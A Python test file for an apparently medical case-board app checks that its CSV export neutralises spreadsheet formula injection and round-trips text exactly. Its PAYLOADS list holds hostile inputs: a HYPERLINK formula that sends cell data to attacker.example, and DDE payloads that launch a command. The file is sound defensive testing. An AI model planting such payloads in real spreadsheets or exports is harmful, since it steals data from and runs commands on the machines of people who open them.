"""CSV formula injection (OWASP): free text that a spreadsheet would run as a formula leaves the
app neutralised, through the CLI's export-store and the Board's CSV, and comes back exactly."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms_board.case import parse_case
from lms_board.cli import main as cli_main
from lms_board.demo import demo_case
from lms_board.interchange import cases_to_csv, read_csv_cases
from lms_board.store import open_store
from robust.scale import robust_settings

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _case(text: str):  # type: ignore[no-untyped-def]
    data = demo_case("DEMO-01").to_json_dict()
    data.update(notes=text, question=text, presenter=text)
    data["tumor"]["location"] = text
    data["patient"]["comorbidities"] = [text]
    return parse_case(data)


def _cells(sheet: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(sheet, newline="")))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_exported_cell_starts_like_a_formula(text: str) -> None:
    sheet = cases_to_csv([_case(text)])
    starts = [c for c in _cells(sheet) if c.startswith(TRIGGERS)]
    assert starts == [], starts
    back = read_csv_cases(sheet.encode())
    assert back.ok, back.messages
    assert back.cases[0].notes == text
    # List items are trimmed on import (docs/csv-format.md), a leading TAB or CR included.
    assert back.cases[0].patient.comorbidities == [text.strip()]


def test_export_store_writes_neutralised_cells(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 's.sqlite3'}"
    open_store(url).create(_case(PAYLOADS[0]), "local:setup")
    out = tmp_path / "cases.csv"
    assert cli_main(["export-store", "--format", "csv", "-o", str(out), "--database", url]) == 0
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + PAYLOADS[0] in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


@robust_settings(small=150, full=3000)
@given(
    text=st.text(
        alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " ", ";", "\\"]),
        min_size=1,
        max_size=12,
    ).filter(lambda t: t.strip() == t and t.strip())
)
def test_round_trip_keeps_any_text_and_exports_no_formula(text: str) -> None:
    sheet = cases_to_csv([_case(text)])
    assert not [c for c in _cells(sheet) if c.startswith(TRIGGERS)]
    back = read_csv_cases(sheet.encode())
    assert back.ok, back.messages
    assert back.cases[0].notes == text and back.cases[0].tumor.location == text
